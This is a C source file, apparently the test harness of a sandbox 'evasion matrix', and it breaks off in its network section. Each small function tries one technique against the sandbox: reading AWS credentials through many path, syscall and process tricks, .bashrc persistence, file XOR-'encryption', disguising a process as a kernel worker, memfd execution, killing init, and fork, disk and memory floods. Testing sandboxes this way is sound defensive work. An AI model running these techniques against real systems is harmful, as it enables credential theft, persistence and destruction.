/* The static C carrier of the evasion matrix: one small function per effect, chosen by argv[1].
 *
 * Exit status: 0 the effect happened; 10 the system refused it (errno on stderr); 77 this kernel or machine does not
 * have the feature; 64 unknown effect. Payloads are inert: documentation addresses, files of the test's own workspace.
 * The working directory is the task's workspace (input/, output/, private/, elsewhere/).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

extern char **environ;

struct effect {
    const char *name;
    int (*run)(void);
};
#define EFFECT(name)                                                                                      \
    static int name(void);                                                                                \
    static const struct effect reg_##name __attribute__((used, aligned(8), section("effects"))) = {#name, name}; \
    static int name(void)
extern const struct effect __start_effects[], __stop_effects[];

enum { DONE = 0, REFUSED = 10, ABSENT = 77 };

#define NOTES "private/notes.txt"
#define VICTIM "elsewhere/existing.txt"
#define PLANTED "elsewhere/new.txt"
#define IPV4 "203.0.113.9"
#define IPV6 "2001:db8::9"
#define MAPPED "::ffff:203.0.113.9"
#define MESSAGE "hello from the tool\n"

static int refused(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return REFUSED;
}

static const char *home(const char *rest)
{
    static char path[4096];
    const char *base = getenv("HOME");
    snprintf(path, sizeof path, "%s/%s", base ? base : "/home/dev", rest);
    return path;
}
#define SECRET home(".aws/credentials")

/* Reads a descriptor to its end; what was read is used, so that no compiler drops the reads. */
static int spill(int fd, const char *what)
{
    char block[4096];
    volatile unsigned sum = 0;
    ssize_t n;
    if (fd < 0)
        return refused(what);
    while ((n = read(fd, block, sizeof block)) > 0)
        sum += (unsigned char)block[0];
    close(fd);
    return n < 0 ? refused("read") : DONE;
}

static int put(int fd, const char *what)
{
    if (fd < 0)
        return refused(what);
    if (write(fd, MESSAGE, sizeof MESSAGE - 1) < 0)
        return refused("write");
    close(fd);
    return DONE;
}

static int wait_for(pid_t pid)
{
    int status;
    while (waitpid(pid, &status, __WALL) < 0)
        if (errno != EINTR)
            return refused("waitpid");
    return WIFEXITED(status) ? WEXITSTATUS(status) : REFUSED;
}

static void nap(long milliseconds)
{
    struct timespec t = {milliseconds / 1000, milliseconds % 1000 * 1000000L};
    nanosleep(&t, NULL);
}

/* ---- reading ------------------------------------------------------------------------------------------------ */

EFFECT(read_plain) { return spill(open(NOTES, O_RDONLY), "open"); }
EFFECT(read_secret) { return spill(open(SECRET, O_RDONLY), "open"); }
EFFECT(read_open_syscall) { return spill((int)syscall(SYS_open, SECRET, O_RDONLY), "open"); }

EFFECT(read_dirfd)
{
    int dir = open(home(".aws"), O_RDONLY | O_DIRECTORY);
    return spill(openat(dir, "credentials", O_RDONLY), "openat");
}

EFFECT(read_openat2)
{
    struct { uint64_t flags, mode, resolve; } how = {O_RDONLY, 0, 0};
    return spill((int)syscall(SYS_openat2, AT_FDCWD, SECRET, &how, sizeof how), "openat2");
}

EFFECT(read_opath_reopen)
{
    char name[64];
    int handle = open(SECRET, O_PATH);
    if (handle < 0)
        return refused("open O_PATH");
    snprintf(name, sizeof name, "/proc/self/fd/%d", handle);
    return spill(open(name, O_RDONLY), "reopen");
}

EFFECT(read_dev_fd)
{
    char name[64];
    int handle = open(SECRET, O_PATH);
    if (handle < 0)
        return refused("open O_PATH");
    snprintf(name, sizeof name, "/dev/fd/%d", handle);
    return spill(open(name, O_RDONLY), "reopen");
}

EFFECT(read_symlink)
{
    if (symlink(SECRET, "output/link") < 0)
        return refused("symlink");
    return spill(open("output/link", O_RDONLY), "open");
}

EFFECT(read_dotdot) { return spill(open("input/../output/.././private/../private//notes.txt", O_RDONLY), "open"); }

EFFECT(read_proc_root)
{
    char path[4096];
    snprintf(path, sizeof path, "/proc/self/root%s", SECRET);
    return spill(open(path, O_RDONLY), "open");
}

EFFECT(read_proc_cwd)
{
    if (chdir(home("")) < 0)
        return refused("chdir");
    return spill(open("/proc/thread-self/cwd/.aws/credentials", O_RDONLY), "open");
}

EFFECT(read_chdir)
{
    if (chdir(home(".aws")) < 0)
        return refused("chdir");
    return spill(open("credentials", O_RDONLY), "open");
}

EFFECT(read_hard_link)
{
    char other[4096];
    snprintf(other, sizeof other, "%s", home("notes.txt.bak"));
    if (link(SECRET, other) < 0)
        return refused("link");
    return spill(open(other, O_RDONLY), "open");
}

EFFECT(read_renamed)
{
    char other[4096];
    snprintf(other, sizeof other, "%s", home("renamed.txt"));
    if (rename(SECRET, other) < 0)
        return refused("rename");
    return spill(open(other, O_RDONLY), "open");
}

EFFECT(read_renamed_directory)
{
    char other[4096];
    snprintf(other, sizeof other, "%s", home("renamed"));
    if (rename(home(".aws"), other) < 0)
        return refused("rename");
    return spill(open(home("renamed/credentials"), O_RDONLY), "open");
}

EFFECT(read_long_path)
{
    char path[4096] = "";
    while (strlen(path) + 2 + strlen(NOTES) < sizeof path - 1)
        strcat(path, "./");
    strcat(path, NOTES);
    return spill(open(path, O_RDONLY), "open");
}

EFFECT(read_not_utf8) { return spill(open("private/\xff\xfe.txt", O_RDONLY), "open"); }
EFFECT(read_with_creat) { return spill(open(NOTES, O_RDONLY | O_CREAT, 0600), "open"); }
EFFECT(read_rdwr) { return spill(open(NOTES, O_RDWR), "open"); }

EFFECT(read_mmap)
{
    volatile char first;
    int fd = open(SECRET, O_RDONLY);
    char *map = fd < 0 ? MAP_FAILED : mmap(NULL, 1, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED)
        return refused("mmap");
    first = *map;
    (void)first;
    return DONE;
}

EFFECT(read_sendfile)
{
    int from = open(SECRET, O_RDONLY), to = open("output/copy", O_WRONLY | O_CREAT, 0600);
    if (from < 0 || to < 0 || sendfile(to, from, NULL, 4096) < 0)
        return refused("sendfile");
    return DONE;
}

EFFECT(read_splice)
{
    int pipe_[2], from = open(SECRET, O_RDONLY), to = open("output/copy", O_WRONLY | O_CREAT, 0600);
    if (from < 0 || to < 0 || pipe(pipe_) < 0 || splice(from, NULL, pipe_[1], NULL, 4096, 0) < 0 ||
        splice(pipe_[0], NULL, to, NULL, 4096, 0) < 0)
        return refused("splice");
    return DONE;
}

EFFECT(read_copy_file_range)
{
    int from = open(NOTES, O_RDONLY), to = open("output/copy", O_WRONLY | O_CREAT, 0600);
    if (from < 0 || to < 0 || copy_file_range(from, NULL, to, NULL, 4096, 0) < 0)
        return refused("copy_file_range");
    return DONE;
}

EFFECT(read_handle_at)
{
    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *handle = (struct file_handle *)space;
    int mount_id, root = open("/", O_RDONLY | O_DIRECTORY);
    handle->handle_bytes = MAX_HANDLE_SZ;
    name_to_handle_at(AT_FDCWD, SECRET, handle, &mount_id, 0); /* overlays may not encode; the open is the point */
    return spill(open_by_handle_at(root, handle, O_RDONLY), "open_by_handle_at");
}

EFFECT(read_io_uring)
{
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    int ring = (int)syscall(SYS_io_uring_setup, 2, &params);
    if (ring < 0)
        return refused("io_uring_setup");
    char *sq = mmap(NULL, params.sq_off.array + params.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
                    MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqe = mmap(NULL, params.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED)
        return refused("mmap ring");
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (uint64_t)(uintptr_t)SECRET;
    sqe->open_flags = O_RDONLY;
    ((unsigned *)(sq + params.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(sq + params.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return refused("io_uring_enter");
    return spill(((struct io_uring_cqe *)(cq + params.cq_off.cqes))[0].res, "ring open");
}

/* A child made by raw clone() with extra flags; it reads the secret and ends. */
static int child_reads(unsigned long flags)
{
    long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (pid < 0)
        return refused("clone");
    if (pid == 0)
        _exit(spill(open(SECRET, O_RDONLY), "open"));
    return wait_for((pid_t)pid);
}

EFFECT(read_fork) { return child_reads(0); }
EFFECT(read_untraced_child) { return child_reads(CLONE_UNTRACED); }
EFFECT(read_clone_parent) { return child_reads(CLONE_PARENT) == REFUSED ? (errno == ECHILD ? (nap(200), DONE) : REFUSED) : DONE; }

EFFECT(read_vfork)
{
    const char *path = SECRET;
    char *argv[] = {"cat", (char *)path, NULL};
    pid_t pid = vfork();
    if (pid < 0)
        return refused("vfork");
    if (pid == 0) {
        execv("/bin/cat", argv);
        _exit(REFUSED);
    }
    return wait_for(pid);
}

EFFECT(read_posix_spawn)
{
    pid_t pid;
    char *argv[] = {"cat", (char *)SECRET, NULL};
    if ((errno = posix_spawn(&pid, "/bin/cat", NULL, NULL, argv, environ)) != 0)
        return refused("posix_spawn");
    return wait_for(pid);
}

EFFECT(read_clone3)
{
    uint64_t args[11] = {0};
    args[4] = SIGCHLD;
    long pid = syscall(SYS_clone3, args, sizeof args);
    if (pid < 0 && errno == ENOSYS)
        pid = fork(); /* what a C library does when it meets this answer */
    if (pid < 0)
        return refused("clone3");
    if (pid == 0)
        _exit(spill(open(SECRET, O_RDONLY), "open"));
    return wait_for((pid_t)pid);
}

static void *thread_reads(void *unused)
{
    (void)unused;
    return (void *)(intptr_t)spill(open(SECRET, O_RDONLY), "open");
}

EFFECT(read_thread)
{
    pthread_t thread;
    void *status;
    if ((errno = pthread_create(&thread, NULL, thread_reads, NULL)) != 0)
        return refused("pthread_create");
    pthread_join(thread, &status);
    return (int)(intptr_t)status;
}

static void *late_thread(void *unused)
{
    nap(150);
    _exit((int)(intptr_t)thread_reads(unused));
}

EFFECT(read_thread_outlives_main)
{
    pthread_t thread;
    if ((errno = pthread_create(&thread, NULL, late_thread, NULL)) != 0)
        return refused("pthread_create");
    pthread_exit(NULL);
}

EFFECT(read_dumpable_off)
{
    if (prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) < 0)
        return refused("prctl");
    return spill(open(SECRET, O_RDONLY), "open");
}

EFFECT(read_disguised_name)
{
    prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0);
    return spill(open(SECRET, O_RDONLY), "open");
}

EFFECT(read_unshared_files)
{
    if (unshare(CLONE_FILES | CLONE_FS) < 0)
        return refused("unshare");
    return spill(open(SECRET, O_RDONLY), "open");
}

static int send_descriptor(int socket_, int fd)
{
    char byte = 0, space[CMSG_SPACE(sizeof fd)];
    struct iovec iov = {&byte, 1};
    struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    return sendmsg(socket_, &message, 0) < 0 ? -1 : 0;
}

static int receive_descriptor(int socket_)
{
    int fd = -1;
    char byte, space[CMSG_SPACE(sizeof fd)];
    struct iovec iov = {&byte, 1};
    struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    if (recvmsg(socket_, &message, 0) > 0 && CMSG_FIRSTHDR(&message))
        memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    return fd;
}

EFFECT(read_passed_descriptor)
{
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return refused("socketpair");
    pid_t pid = fork();
    if (pid < 0)
        return refused("fork");
    if (pid == 0)
        _exit(send_descriptor(pair[1], open(SECRET, O_RDONLY)) < 0 ? REFUSED : DONE);
    close(pair[1]);
    int status = spill(receive_descriptor(pair[0]), "received descriptor");
    wait_for(pid);
    return status;
}

EFFECT(read_pidfd_getfd)
{
    int ready[2];
    char byte;
    if (pipe(ready) < 0)
        return refused("pipe");
    pid_t pid = fork();
    if (pid == 0) {
        int fd = open(SECRET, O_RDONLY);
        dup2(fd, 9);
        if (write(ready[1], "x", 1) != 1)
            _exit(1);
        nap(500);
        _exit(0);
    }
    if (read(ready[0], &byte, 1) != 1)
        return refused("pipe");
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    int status = spill((int)syscall(SYS_pidfd_getfd, pidfd, 9, 0), "pidfd_getfd");
    kill(pid, SIGKILL);
    wait_for(pid);
    return status;
}

EFFECT(read_own_filter)
{
    struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog program = {1, &allow};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) < 0)
        return refused("seccomp");
    return spill(open(SECRET, O_RDONLY), "open");
}

EFFECT(read_sweep)
{
    char path[4096];
    int seen = 0;
    for (int i = 0; i < 40; i++) {
        snprintf(path, sizeof path, "private/tree/file%02d.txt", i);
        seen += spill(open(path, O_RDONLY), "open") == DONE;
    }
    return seen ? DONE : REFUSED;
}

EFFECT(read_own_environ) { return spill(open("/proc/self/environ", O_RDONLY), "open"); }
EFFECT(read_init_environ) { return spill(open("/proc/1/environ", O_RDONLY), "open"); }
EFFECT(read_machine_id) { return spill(open("/etc/machine-id", O_RDONLY), "open"); }
EFFECT(read_status) { return spill(open("/proc/self/status", O_RDONLY), "open"); }
EFFECT(read_stat_parent) { return spill(open("/proc/1/status", O_RDONLY), "open"); }

/* ---- writing ------------------------------------------------------------------------------------------------ */

EFFECT(write_plain) { return put(open(PLANTED, O_WRONLY | O_CREAT | O_TRUNC, 0644), "open"); }
EFFECT(write_creat_syscall) { return put((int)syscall(SYS_creat, PLANTED, 0644), "creat"); }
EFFECT(write_append) { return put(open(VICTIM, O_WRONLY | O_APPEND), "open"); }

EFFECT(write_openat2)
{
    struct { uint64_t flags, mode, resolve; } how = {O_WRONLY | O_CREAT, 0644, 0};
    return put((int)syscall(SYS_openat2, AT_FDCWD, PLANTED, &how, sizeof how), "openat2");
}

EFFECT(write_tmpfile_linkat)
{
    char name[64];
    int fd = open("elsewhere", O_TMPFILE | O_WRONLY, 0644);
    if (fd < 0)
        return errno == EOPNOTSUPP ? ABSENT : refused("O_TMPFILE");
    if (write(fd, MESSAGE, sizeof MESSAGE - 1) < 0)
        return refused("write");
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    return linkat(AT_FDCWD, name, AT_FDCWD, PLANTED, AT_SYMLINK_FOLLOW) < 0 ? refused("linkat") : DONE;
}

EFFECT(write_symlink)
{
    if (symlink("../elsewhere/new.txt", "output/report.txt") < 0)
        return refused("symlink");
    return put(open("output/report.txt", O_WRONLY | O_CREAT, 0644), "open");
}

EFFECT(write_hard_link)
{
    if (link(VICTIM, "output/report.txt") < 0)
        return refused("link");
    return put(open("output/report.txt", O_WRONLY), "open");
}

EFFECT(write_proc_fd_reopen)
{
    char name[64];
    int reading = open(VICTIM, O_RDONLY);
    snprintf(name, sizeof name, "/proc/self/fd/%d", reading);
    return put(reading < 0 ? -1 : open(name, O_WRONLY), "reopen");
}

EFFECT(write_mmap_shared)
{
    int fd = open(VICTIM, O_RDWR);
    char *map = fd < 0 ? MAP_FAILED : mmap(NULL, 8, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (map == MAP_FAILED)
        return refused("mmap");
    memcpy(map, "tampered", 8);
    return DONE;
}

EFFECT(write_sendfile)
{
    int from = open("input/data.txt", O_RDONLY), to = open(PLANTED, O_WRONLY | O_CREAT, 0644);
    return from < 0 || to < 0 || sendfile(to, from, NULL, 64) < 0 ? refused("sendfile") : DONE;
}

EFFECT(write_splice)
{
    int pipe_[2], to = open(PLANTED, O_WRONLY | O_CREAT, 0644);
    if (to < 0 || pipe(pipe_) < 0 || write(pipe_[1], MESSAGE, 5) < 0 || splice(pipe_[0], NULL, to, NULL, 5, 0) < 0)
        return refused("splice");
    return DONE;
}

EFFECT(write_copy_file_range)
{
    int from = open("input/data.txt", O_RDONLY), to = open(PLANTED, O_WRONLY | O_CREAT, 0644);
    return from < 0 || to < 0 || copy_file_range(from, NULL, to, NULL, 64, 0) < 0 ? refused("copy_file_range") : DONE;
}

EFFECT(write_rename_swap)
{
    if (put(open("output/draft.txt", O_WRONLY | O_CREAT, 0644), "open") != DONE)
        return REFUSED;
    return rename("output/draft.txt", VICTIM) < 0 ? refused("rename") : DONE;
}

EFFECT(write_rename_exchange)
{
    if (put(open("output/draft.txt", O_WRONLY | O_CREAT, 0644), "open") != DONE)
        return REFUSED;
    if (syscall(SYS_renameat2, AT_FDCWD, "output/draft.txt", AT_FDCWD, VICTIM, 2) < 0)
        return errno == EINVAL ? ABSENT : refused("renameat2 EXCHANGE");
    return DONE;
}

EFFECT(write_truncate) { return truncate(VICTIM, 3) < 0 ? refused("truncate") : DONE; }
EFFECT(write_open_truncate) { int fd = open(VICTIM, O_RDONLY | O_TRUNC); return fd < 0 ? refused("open") : DONE; }

EFFECT(write_fallocate_hole)
{
    int fd = open(VICTIM, O_RDWR);
    if (fd < 0)
        return refused("open");
    return fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4) < 0 ? refused("fallocate") : DONE;
}

EFFECT(write_pwritev)
{
    struct iovec iov = {"tampered", 8};
    int fd = open(VICTIM, O_WRONLY);
    return fd < 0 || pwritev2(fd, &iov, 1, 0, 0) < 0 ? refused("pwritev2") : DONE;
}

EFFECT(write_mkdir) { return mkdir("elsewhere/deep", 0755) < 0 ? refused("mkdir") : DONE; }
EFFECT(write_fifo) { return mknod("elsewhere/pipe", S_IFIFO | 0600, 0) < 0 ? refused("mknod") : DONE; }
EFFECT(write_socket_node)
{
    struct sockaddr_un address = {AF_UNIX, "elsewhere/agent.sock"};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof address) < 0 ? refused("bind") : DONE;
}
EFFECT(write_symlink_node) { return symlink("/etc/passwd", "elsewhere/link") < 0 ? refused("symlink") : DONE; }

EFFECT(write_passed_descriptor)
{
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return refused("socketpair");
    pid_t pid = fork();
    if (pid == 0)
        _exit(send_descriptor(pair[1], open(PLANTED, O_WRONLY | O_CREAT, 0644)) < 0 ? REFUSED : DONE);
    close(pair[1]);
    int status = put(receive_descriptor(pair[0]), "received descriptor");
    wait_for(pid);
    return status;
}

EFFECT(write_untraced_child)
{
    long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(put(open(PLANTED, O_WRONLY | O_CREAT, 0644), "open"));
    return pid < 0 ? refused("clone") : wait_for((pid_t)pid);
}

EFFECT(persist_shell_rc) { return put(open(home(".bashrc"), O_WRONLY | O_APPEND | O_CREAT, 0644), "open"); }
EFFECT(tamper_input) { return put(open("input/data.txt", O_WRONLY | O_TRUNC), "open"); }

EFFECT(delete_plain) { return unlink(NOTES) < 0 ? refused("unlink") : DONE; }
EFFECT(delete_unlinkat) { return unlinkat(AT_FDCWD, NOTES, 0) < 0 ? refused("unlinkat") : DONE; }
EFFECT(delete_by_rename) { return rename(NOTES, "output/gone") < 0 ? refused("rename") : DONE; }
EFFECT(delete_encrypt)
{
    char block[4096];
    int fd = open(NOTES, O_RDWR);
    ssize_t n = fd < 0 ? -1 : read(fd, block, sizeof block);
    for (ssize_t i = 0; i < n; i++)
        block[i] ^= 0x5a;
    return n < 0 || pwrite(fd, block, (size_t)n, 0) != n ? refused("pwrite") : DONE;
}

/* ---- metadata ----------------------------------------------------------------------------------------------- */

EFFECT(meta_chmod) { return chmod(VICTIM, 0777) < 0 ? refused("chmod") : DONE; }
EFFECT(meta_setuid) { return chmod(VICTIM, 04755) < 0 ? refused("chmod") : DONE; }
EFFECT(meta_fchmod) { return fchmod(open(VICTIM, O_RDONLY), 0777) < 0 ? refused("fchmod") : DONE; }
EFFECT(meta_fchmodat2)
{
    if (syscall(452, AT_FDCWD, VICTIM, 0777, 0) < 0)
        return errno == ENOSYS ? ABSENT : refused("fchmodat2");
    return DONE;
}
EFFECT(meta_chown) { return chown(VICTIM, getuid(), getgid()) < 0 ? refused("chown") : DONE; }
EFFECT(meta_fchown) { return fchown(open(VICTIM, O_RDONLY), 0, 0) < 0 ? refused("fchown") : DONE; }
EFFECT(meta_utime)
{
    struct timeval when[2] = {{1000000000, 0}, {1000000000, 0}};
    return utimes(VICTIM, when) < 0 ? refused("utimes") : DONE;
}
EFFECT(meta_utimensat_fd)
{
    struct timespec when[2] = {{1000000000, 0}, {1000000000, 0}};
    int fd = open(VICTIM, O_RDONLY);
    return syscall(SYS_utimensat, fd, NULL, when, 0) < 0 ? refused("utimensat") : DONE;
}
EFFECT(meta_setxattr) { return setxattr(VICTIM, "user.origin", "x", 1, 0) < 0 ? refused("setxattr") : DONE; }
EFFECT(meta_fsetxattr) { return fsetxattr(open(VICTIM, O_RDONLY), "user.origin", "x", 1, 0) < 0 ? refused("fsetxattr") : DONE; }
EFFECT(meta_chattr)
{
    int flags = 0, fd = open(VICTIM, O_RDONLY);
    if (fd < 0 || ioctl(fd, _IOR('f', 1, long), &flags) < 0)
        return errno == ENOTTY || errno == EOPNOTSUPP ? ABSENT : refused("FS_IOC_GETFLAGS");
    flags |= 0x40; /* FS_NODUMP_FL */
    return ioctl(fd, _IOW('f', 2, long), &flags) < 0 ? refused("FS_IOC_SETFLAGS") : DONE;
}

/* ---- programs ----------------------------------------------------------------------------------------------- */

static int run_child(void (*start)(void))
{
    pid_t pid = fork();
    if (pid < 0)
        return refused("fork");
    if (pid == 0) {
        start();
        _exit(refused("exec"));
    }
    return wait_for(pid);
}

static char *const true_argv[] = {"true", NULL};

static void start_true(void) { execve("/bin/true", true_argv, environ); }
EFFECT(exec_plain) { return run_child(start_true); }

static void start_execveat(void) { syscall(SYS_execveat, AT_FDCWD, "/bin/true", true_argv, environ, 0); }
EFFECT(exec_execveat) { return run_child(start_execveat); }

static void start_empty_path(void) { syscall(SYS_execveat, open("/bin/true", O_PATH), "", true_argv, environ, AT_EMPTY_PATH); }
EFFECT(exec_empty_path) { return run_child(start_empty_path); }

static void start_proc_fd(void)
{
    char name[64];
    snprintf(name, sizeof name, "/proc/self/fd/%d", open("/bin/true", O_RDONLY));
    execve(name, true_argv, environ);
}
EFFECT(exec_proc_fd) { return run_child(start_proc_fd); }

static int copy_into(int to)
{
    char block[65536];
    ssize_t n;
    int from = open("/bin/true", O_RDONLY);
    if (from < 0 || to < 0)
        return -1;
    while ((n = read(from, block, sizeof block)) > 0)
        if (write(to, block, (size_t)n) != n)
            return -1;
    close(from);
    return 0;
}

static void start_memfd(void)
{
    int fd = memfd_create("libfoo.so", MFD_CLOEXEC);
    if (copy_into(fd) == 0)
        syscall(SYS_execveat, fd, "", true_argv, environ, AT_EMPTY_PATH);
}
EFFECT(exec_memfd) { return run_child(start_memfd); }

static void start_dropped(void)
{
    int fd = open("output/helper", O_WRONLY | O_CREAT, 0755);
    if (copy_into(fd) == 0) {
        close(fd);
        execve("output/helper", true_argv, environ);
    }
}
EFFECT(exec_dropped) { return run_child(start_dropped); }

static void start_unlinked(void)
{
    int fd = open("output/helper", O_WRONLY | O_CREAT, 0755);
    if (copy_into(fd) == 0) {
        close(fd);
        fd = open("output/helper", O_RDONLY);
        unlink("output/helper");
        syscall(SYS_execveat, fd, "", true_argv, environ, AT_EMPTY_PATH);
    }
}
EFFECT(exec_unlinked) { return run_child(start_unlinked); }

static void start_script(void)
{
    char *argv[] = {"helper.sh", NULL};
    const char text[] = "#!/bin/sh\nexit 0\n";
    int fd = open("output/helper.sh", O_WRONLY | O_CREAT, 0755);
    if (fd >= 0 && write(fd, text, sizeof text - 1) > 0 && close(fd) == 0)
        execve("output/helper.sh", argv, environ);
}
EFFECT(exec_dropped_script) { return run_child(start_script); }

static void start_loader(void)
{
    char *argv[] = {"ld.so", "output/helper", NULL};
    int fd = open("output/helper", O_WRONLY | O_CREAT, 0644); /* needs no x bit this way */
    if (copy_into(fd) == 0 && close(fd) == 0)
        execve("/lib64/ld-linux-x86-64.so.2", argv, environ);
}
EFFECT(exec_through_loader) { return run_child(start_loader); }

static void *thread_execs(void *unused)
{
    (void)unused;
    start_true();
    return NULL;
}
static void start_from_thread(void)
{
    pthread_t thread;
    pthread_create(&thread, NULL, thread_execs, NULL);
    pthread_join(thread, NULL);
}
EFFECT(exec_from_thread) { return run_child(start_from_thread); }

static void start_secret_argument(void)
{
    const char *secret = getenv("AWS_SECRET_ACCESS_KEY");
    char *argv[] = {"true", "--token", (char *)(secret ? secret : ""), NULL};
    if (secret)
        execve("/bin/true", argv, environ);
    errno = ENOENT;
}
EFFECT(exec_secret_argument) { return run_child(start_secret_argument); }

/* ---- lifetime ----------------------------------------------------------------------------------------------- */

static int daemonise(long delay_ms, int (*act)(void))
{
    pid_t pid = fork();
    if (pid < 0)
        return refused("fork");
    if (pid == 0) {
        setsid();
        if (fork() == 0) {
            int null = open("/dev/null", O_RDWR);
            for (int i = 0; i < 3; i++)
                dup2(null, i);
            nap(delay_ms);
            _exit(act ? act() : 0);
        }
        _exit(0);
    }
    return wait_for(pid);
}

EFFECT(life_daemon) { return daemonise(20000, NULL); }
EFFECT(life_delayed_write) { return daemonise(150, write_plain); }
EFFECT(life_subreaper)
{
    prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
    return daemonise(20000, NULL);
}
EFFECT(life_pdeathsig_off)
{
    prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
    return daemonise(20000, NULL);
}
EFFECT(life_stopped_child)
{
    pid_t pid = fork();
    if (pid == 0) {
        raise(SIGSTOP);
        _exit(0);
    }
    return pid < 0 ? refused("fork") : DONE;
}
EFFECT(life_kill_init) { return kill(1, SIGKILL) < 0 ? refused("kill") : DONE; }
EFFECT(life_kill_parent) { return kill(getppid(), SIGKILL) < 0 ? refused("kill") : DONE; }
EFFECT(life_stop_parent) { return kill(getppid(), SIGSTOP) < 0 ? refused("kill") : DONE; }
EFFECT(life_kill_everyone) { return kill(-1, SIGKILL) < 0 ? refused("kill") : DONE; }
EFFECT(life_pidfd_signal)
{
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
    return pidfd < 0 || syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0) < 0 ? refused("pidfd_send_signal") : DONE;
}

EFFECT(flood_forks)
{
    int made = 0;
    for (int i = 0; i < 3000; i++) {
        pid_t pid = fork();
        if (pid < 0)
            return made ? refused("fork") : REFUSED;
        if (pid == 0) {
            pause();
            _exit(0);
        }
        made++;
    }
    return DONE;
}

EFFECT(flood_disk)
{
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    int fd = open("output/big", O_WRONLY | O_CREAT, 0644);
    for (int i = 0; i < 4096; i++)
        if (write(fd, block, sizeof block) < 0)
            return refused("write");
    return DONE;
}

EFFECT(flood_memory)
{
    for (int i = 0; i < 8192; i++) {
        char *block = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (block == MAP_FAILED)
            return refused("mmap");
        memset(block, 1, 1 << 20);
    }
    return DONE;
}

/* ---- network ------------------------------------------------------------------------------------------------ */

static struct sockaddr_storage where(const char *address, int port, socklen_t *length)
{
    struct sockaddr_storage out;
    memset(&out, 0, sizeof out);
    if (strchr(address, ':')) {
        struct sockaddr_in6 *six = (struct sockaddr_in6 *)&out;
        six->sin6_family = AF_INET6;
        six->sin6_port = htons((uint16_t)port);
        inet_pton(AF_INET6, address, &six->sin6_addr);
        *length = sizeof *six;
    } else {
        struct sockaddr_in *four = (struct sockaddr_in *)&out;
        four->sin_family = AF_INET;
        four->sin_port = htons((uint16_t)port);
        inet_pton(AF_INET, address, &four->sin_addr);
        *length = sizeof *four;
    }
    return out;
}

static int dial(const char *address, int port, int type, int protocol)
{
    socklen_t length;
    struct sockaddr_storage to = where(address, port, &length);
    int fd = socket(to.ss_family, type, protocol);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&to, length) < 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static int say(int fd, const char *text)
{
    char answer[512];
    struct timeval limit = {2, 0};
    if (fd < 0)
        return refused("connect");
    if (send(fd, text, strlen(text), MSG_NOSIGNAL) < 0)
        return refused("send");
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    shutdown(fd, SHUT_WR);
